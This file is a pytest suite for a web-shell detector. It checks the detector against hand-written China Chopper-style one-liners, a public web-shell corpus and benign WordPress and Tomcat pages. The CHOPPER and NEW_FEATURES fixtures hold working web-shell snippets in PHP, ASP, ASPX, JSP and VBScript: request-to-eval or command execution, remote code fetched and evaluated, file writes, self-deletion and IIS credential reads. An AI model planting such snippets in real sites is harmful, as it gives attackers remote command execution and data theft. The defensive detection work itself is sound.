"""Tests of the web-shell assessor on snippets we wrote, the tennc corpus and benign web roots.

The snippets below are hand-written China Chopper-style one-liners (never taken from a corpus):
they pin the behaviour every language must have. The corpus and benign-package tests measure the
issue-3 targets on real data; the corpus is only ever read as bytes.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Iterable
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path, PurePath

import pytest

from seawall.features.webshell import (
    THRESHOLD,
    WEB_EXTENSIONS,
    assess,
    is_web_root,
    read_head,
    suffix_of,
    web_files,
)
from tests.conftest import shared

CHOPPER = {
    "a.php": b'<?php @eval($_POST["z"]);?>',
    "b.asp": b'<%eval request("z")%>',
    "c.aspx": b'<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
    "d.jsp": (
        b'<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime()'
        b'.exec(request.getParameter("c")); %>'
    ),
    "e.php": b"<?php $c = $_GET['c']; system($c); ?>",
    "f.php": b"<?php eval(gzinflate(base64_decode('80jNyclXCM8vyklRBAA=')));",
    "g.php": b"<?php $_GET['f']($_POST['x']); ?>",
}

BENIGN_PHP = b"""<?php
/** A contact page: reads the form and mails it. */
$name = isset($_POST['name']) ? htmlspecialchars($_POST['name']) : '';
$ids = array_map('intval', (array) $_REQUEST['ids']);
if ($name !== '') {
    mail('webmaster@example.org', 'Contact', "From: $name");
}
?><html><body><form method="post"><input name="name"></form></body></html>
"""

BENIGN_PACKAGES = ("wordpress", "tomcat10-examples")


def package_files(package: str) -> list[Path] | None:
    """Files a Debian package installed, or None when it is not installed."""
    done = subprocess.run(["dpkg", "-L", package], capture_output=True, text=True, check=False)
    if done.returncode:
        return None
    return [Path(line) for line in done.stdout.splitlines() if line.startswith("/")]


BENIGN_JSP = b"""<%@ page contentType="text/html; charset=UTF-8" import="java.util.*" %>
<html><body>
<% String who = request.getParameter("name");
   if (who == null) { who = "world"; } %>
<p>Hello, <%= org.apache.commons.text.StringEscapeUtils.escapeHtml4(who) %></p>
</body></html>
"""


@pytest.mark.parametrize("name", sorted(CHOPPER))
def test_hand_written_one_liners_are_web_shells(name: str) -> None:
    verdict = assess(CHOPPER[name], name)
    assert verdict.is_webshell, verdict
    assert verdict.score >= THRESHOLD
    assert verdict.reasons, "every score must be explained"


def test_reasons_say_why() -> None:
    verdict = assess(CHOPPER["a.php"], "a.php")
    assert verdict.language == "php"
    assert "request parameter passed to eval()" in verdict.reasons[0]
    assert verdict.features["request_to_sink"] == 1


@pytest.mark.parametrize(("data", "name"), [(BENIGN_PHP, "contact.php"), (BENIGN_JSP, "hi.jsp")])
def test_benign_pages_are_not_web_shells(data: bytes, name: str) -> None:
    verdict = assess(data, name)
    assert not verdict.is_webshell, verdict.reasons
    assert 0 <= verdict.score < THRESHOLD


def test_language_by_extension_and_content() -> None:
    assert assess(b"", "x.ASPX").language == "aspx"
    assert assess(b"", "x.jspx").language == "jspx"
    assert assess(b"#!/usr/bin/perl\nprint 1;", "noext").language == "perl"
    assert assess(b"<?php echo 1;", "noext").language == "php"
    assert assess(b"plain text", "readme").language is None
    assert {".php", ".php5", ".phtml", ".asp", ".aspx", ".ashx", ".jsp", ".cfm"} <= WEB_EXTENSIONS


def test_work_is_bounded_and_hostile_bytes_are_fine() -> None:
    big = b"<?php\n" + b"\xff\xfe" * (3 * 1024 * 1024)
    verdict = assess(big, "big.php")
    assert verdict.features["bytes_examined"] == 4 * 1024 * 1024


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (r"C:\inetpub\wwwroot\aspnet_client\x.aspx", True),
        ("c:/INETPUB/WWWROOT", True),
        (r"D:\Tomcat 9\webapps\ROOT\index.jsp", True),
        (r"C:\xampp\htdocs", True),
        ("/var/www/html/index.php", True),
        ("/srv/www", True),
        ("/usr/share/nginx/html", True),
        ("/usr/share/wordpress/wp-login.php", True),
        ("/var/lib/tomcat10/webapps/ROOT", True),
        ("/opt/tomcat/webapps/app/x.jsp", True),
        ("/mnt/img/var/www", True),
        ("/home/user/docs/www.txt", False),
        ("/var/WWW", False),
        (r"C:\Windows\System32", False),
        ("/usr/bin", False),
    ],
)
def test_is_web_root(path: str, expected: bool) -> None:
    assert is_web_root(path) is expected


def _flags(paths: Iterable[Path]) -> list[bool]:
    """Verdicts on both cores: the real sets are ~1,300 files and tests must stay fast."""
    items = [(read_head(p), p.name) for p in paths]
    with ProcessPoolExecutor(max_workers=min(4, os.cpu_count() or 1)) as pool:
        return list(pool.map(_is_webshell, items, chunksize=8))


def _is_webshell(item: tuple[bytes, str]) -> bool:
    return assess(*item).is_webshell


# Issue-3 target: recall >= 90 % on each folder. Floors: recall measured now (php 96.5 %, asp
# 90.2 % = 46/51, every sample with server-side code) minus about 1 point, never below the target.
RECALL_TARGET = 0.90


@pytest.mark.parametrize(
    ("folder", "floor"),
    [
        ("php", 0.95),
        ("asp", 0.90),
    ],
)
def test_corpus_recall_meets_target(folder: str, floor: float) -> None:
    files = list(web_files(sorted(shared(f"webshells/tennc-webshell/{folder}").rglob("*"))))
    assert len(files) > 40
    flags = _flags(files)
    recall = sum(flags) / len(flags)
    assert recall >= max(floor, RECALL_TARGET), f"{folder}/: recall {recall:.1%} over {len(flags)}"


def test_benign_web_roots_false_positives() -> None:
    if not Path("/usr/share/wordpress").is_dir():
        reason = "benign web roots absent: apt-get install wordpress tomcat10-examples"
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail(reason)
        pytest.skip(reason)
    files: list[Path] = []
    for package in BENIGN_PACKAGES:
        listed = package_files(package)
        assert listed is not None, f"apt-get install {package}"
        files.extend(web_files(listed))
    assert len(files) > 500
    flags = _flags(files)
    per_1000 = 1000 * sum(flags) / len(flags)
    assert per_1000 <= 1.0, f"{sum(flags)} false positives in {len(flags)} benign web files"


# --- features added for the 90 % targets: one hand-written snippet each ------------------------

NEW_FEATURES: dict[str, tuple[str, bytes]] = {
    # PHP helper whose parameter reaches popen(), called with request data.
    "helper_php": (
        "request_to_sink",
        b'<?php function run($c) { $h = popen($c, "r"); return fread($h, 4096); }\n'
        b"echo run($_POST['q']); ?>",
    ),
    # VBScript helper around WScript.Shell .Exec.
    "helper_vbs": (
        "request_to_sink",
        b'<%\nSet sh = Server.CreateObject("WScript.Shell")\nFunction Out(c)\n'
        b"  Set e = sh.Exec(c)\n  Out = e.StdOut.ReadAll\nEnd Function\n"
        b'x = Request.Form("q")\nResponse.Write Out(x)\n%>',
    ),
    # C# helper handing a parameter to a Process through StartInfo.
    "helper_cs": (
        "request_to_sink",
        b'<%@ Page Language="C#" %><script runat="server">\n'
        b'void Page_Load(object s, EventArgs e) {\n  string c = Request.Form["c"];\n'
        b"  Response.Write(Run(c));\n}\n"
        b"private string Run(string arg) {\n  Process p = new Process();\n"
        b"  p.StartInfo.FileName = arg;\n  p.Start();\n  return p.StandardOutput.ReadToEnd();\n}"
        b"\n</script>",
    ),
    # VBScript helper writing content to a path, both from the request.
    "helper_write": (
        "request_file_write",
        b'<%\nFunction Put(p, t)\n  Set s = CreateObject("ADODB.Stream")\n  s.Open\n'
        b"  s.WriteText t\n  s.SaveToFile p, 2\nEnd Function\n"
        b'Put Request("where"), Request("what")\n%>',
    ),
    "php_fopen_write": (
        "request_file_write",
        b'<?php $f = fopen($_POST["name"], "w"); fwrite($f, $_POST["body"]); ?>',
    ),
    "upload_client_name": (
        "upload_client_name",
        b"<?php copy($_FILES['u']['tmp_name'], $_FILES['u']['name']); ?>",
    ),
    "remote_code": (
        "remote_code",
        b"<?php $u = 'http://example.invalid/x.txt'; $s = file_get_contents($u); eval($s); ?>",
    ),
    "call_result_call": (
        "call_result_call",
        b"<?php trim(' system ')($_GET['c']); ?>",
    ),
    "eval_decoded_var": (
        "eval_decoded_var",
        b"<?php function my_decode($s) { return strrev($s); }\n"
        b"$this_code = my_decode('lmx'); eval($this_code); ?>",
    ),
    "preg_e_from_chr": (
        "preg_replace_e",
        b"<?php preg_replace(chr(47) . 'x' . chr(47) . chr(101), $_POST['c'], 'x'); ?>",
    ),
    "not_strings": (
        "not_strings",
        b"<?php $n = ''; $n .= ~$a[1]; $n .= ~$b[2]; ?>",
    ),
    "pack_codes": (
        "hidden_function_name",
        b"<?php $f = pack('c*', 0x73, 0x79, 0x73, 0x74, 0x65, 0x6d); ?>",
    ),
    "function_table": (
        "function_table",
        b"<?php $t = explode(',', 'a,b,c,d'); $t[0]($_GET['a']); $t[1]('x'); $t[2]('y'); ?>",
    ),
    "hash_gate": (
        "hash_gate",
        b"<?php if (md5($_GET['k']) == '0123456789abcdef0123456789abcdef') { echo 1; } ?>",
    ),
    "fragment_callback": (
        "request_to_callback",
        b'<?php $r = array_diff(["as", "x", "se", "rt"], ["x"]); $f = join($r);'
        b" array_map($f, (array) $_REQUEST['c']); ?>",
    ),
    "xslt_msxsl": (
        "xslt_script",
        b'<% x = "<msxsl:script language=""JScript"" implements-prefix=""u"">'
        b"function f(c){ return new ActiveXObject('WScript.Shell').Exec(c); }"
        b'</msxsl:script>" %>',
    ),
    "xslt_php": (
        "xslt_script",
        b"<?php $p = new XSLTProcessor(); $p->registerPHPFunctions();"
        b" $x = '<xsl:value-of select=\"php:function(\\'system\\', string(.))\"/>'; ?>",
    ),
    "write_and_run": (
        "write_and_run",
        b'<%\nSet f = fso.CreateTextFile("c:\\temp\\a.vbs", True)\nf.Write "x"\n'
        b'sh.Run "c:\\temp\\a.vbs", 0, False\n%>',
    ),
    "hides_files": (
        "hides_files",
        b'<% Set f = fso.GetFile(Server.MapPath("x.asp")) : f.Attributes = 6 %>',
    ),
    "iis_credentials": (
        "iis_credentials",
        b'<?php $s = new COM("IIS://localhost/w3svc/1/Root"); echo $s->AnonymousUserPass; ?>',
    ),
    "self_delete": (
        "self_delete",
        b"<?php ignore_user_abort(true); unlink(__FILE__); while (true) { sleep(5); } ?>",
    ),
    "image_header": (
        "image_header",
        b"GIF89a\n<?php echo 1; ?>",
    ),
    "request_file_ops": (
        "request_file_ops",
        b"<?php unlink($_POST['a']); rmdir($_POST['b']); rename($_POST['c'], $_POST['d']);"
        b" chmod($_POST['e'], 0755); ?>",
    ),
}


@pytest.mark.parametrize("case", sorted(NEW_FEATURES))
def test_new_features_fire_with_a_reason(case: str) -> None:
    feature, snippet = NEW_FEATURES[case]
    name = "x.asp" if snippet.startswith(b"<%") else "x.aspx" if b"C#" in snippet else "x.php"
    verdict = assess(snippet, name)
    assert verdict.features.get(feature), (case, verdict.features, verdict.reasons)
    assert verdict.reasons


@pytest.mark.parametrize(
    ("snippet", "name"),
    [
        # A helper whose callback is a literal name, called with request data: not a shell.
        (
            b"<?php function show($cb, ...$a) { return call_user_func_array($cb, $a); }\n"
            b"show('render_form', $_GET['type']); ?>",
            "form.php",
        ),
        # An upload saved under a server-chosen, sanitised name.
        (
            b"<?php $n = uniqid() . '.jpg'; move_uploaded_file($_FILES['f']['tmp_name'],"
            b" '/srv/up/' . $n); ?>",
            "up.php",
        ),
        # A browser-side JavaScript helper with eval() is not a server-side sink.
        (
            b"<script>function show(a) { eval(a); }</script>\n"
            b"<?php $q = $_GET['q']; ?><a onclick=\"show('<?php echo $q; ?>')\">x</a>",
            "page.php",
        ),
        # A template engine evaluating a local compiled template is not remote code.
        (b"<?php $t = file_get_contents($cache . '/page.tpl.php'); eval('?>' . $t); ?>", "t.php"),
        # A checked upload (type looked at) under the client's name stays below the threshold.
        (
            b"<?php $n = 'up/' . basename($_FILES['f']['name']);"
            b" if (in_array(pathinfo($n, PATHINFO_EXTENSION), ['jpg', 'png'])) {"
            b" move_uploaded_file($_FILES['f']['tmp_name'], $n . $_FILES['f']['name']); } ?>",
            "u.php",
        ),
        # preg_replace with a built pattern whose modifiers do not include e.
        (b"<?php preg_replace('/' . $w . '/i', '', $_GET['s']); ?>", "s.php"),
        # One request-named file operation (a download page) is not a file manager.
        (b"<?php readfile(basename($_GET['f'])); ?>", "dl.php"),
    ],
)
def test_new_features_stay_quiet_on_benign_code(snippet: bytes, name: str) -> None:
    verdict = assess(snippet, name)
    assert not verdict.is_webshell, verdict.reasons


# --- speed-ups that must not change results: guards and rewritten patterns -----------------------


def test_names_regex_trie_matches_like_a_plain_alternation() -> None:
    import re

    from seawall.features.webshell.flow import _names_re

    names = {"$a", "$ab", "$abc", "$b1", "x", "xy", "$é"}
    plain = re.compile(
        r"(?<![\w$])(?:" + "|".join(re.escape(n) for n in sorted(names)) + r")(?!\w)"
    )
    trie = _names_re(names)
    assert trie is not None
    text = "$a $ab $abc $abcd x$a $$ab xy xyz ($b1) $b12 $é $éa a$ab"
    assert [m.span() for m in trie.finditer(text)] == [m.span() for m in plain.finditer(text)]
    deep = {"$" + "a" * k for k in range(1, 90)}  # too deep for a trie: plain form, same matches
    deep_re = _names_re(deep)
    assert deep_re is not None
    assert deep_re.search("$" + "a" * 50 + " ") is not None
    assert deep_re.search("$" + "a" * 95) is None


def test_alternation_reduced_to_present_literals_finds_the_same() -> None:
    from seawall.features.webshell.flow import _CALLBACKS, _SINKS

    text = "x = new  function ( ) ; $db->exec($q); system ($c); usort($a, $f); shell_exec('x')"
    for alternation in (_SINKS, _CALLBACKS):
        reduced = [m.span() for m in alternation.finditer(text)]
        assert reduced == [m.span() for m in alternation.full.finditer(text)]
    assert _SINKS.on("<?php echo 1; ?>") is None


def test_blob_guards_keep_mixed_case_escapes_and_long_runs() -> None:
    escapes = b"<?php $x = '" + b"\\X4a\\x4B" * 30 + b"';"
    assert assess(escapes, "e.php").features["longest_hex"] == 240
    run = b"<?php $x = '" + b"0123456789ABCDEF" * 40 + b"';"
    assert assess(run, "h.php").features["longest_hex"] == 640
    blob = b"<?php $x = '" + b"QUJD" * 150 + b"==';"
    assert assess(blob, "b.php").features["longest_base64"] == 602


def test_definitions_scan_matches_the_definition_regex() -> None:
    from seawall.features.webshell.wrap import _DEF_RE, _definitions

    text = (
        "function a($x) { }\n;function b($y){} sub c(d)\nprivate static string E(int f) {"
        " public void g(string h) { }function i(j)"
    )
    got = [(m.span(), m.groups()) for m in _definitions(text)]
    assert got == [(m.span(), m.groups()) for m in _DEF_RE.finditer(text)]
    assert len(got) >= 5


def test_constant_folding_still_folds_after_the_first_token_check() -> None:
    from seawall.features.webshell.tokens import fold_variables

    env = fold_variables("$a = strrev('metsys'); $b = array(1); $c = @STRREV('lave'); $d = $a;")
    assert env == {"a": "system", "c": "eval", "d": "system"}


@pytest.mark.parametrize(
    "path",
    ["a/b.php", "a/.php", "a/b.", "a/b", "b.tar.gz", "/x/y.z/w", ".a.b", "a..", "C:\\x\\y.aspx"],
)
def test_suffix_of_is_pure_paths_suffix(path: str) -> None:
    """The sweep asks every file's suffix without building a path object: same answer."""
    assert suffix_of(path) == PurePath(path).suffix
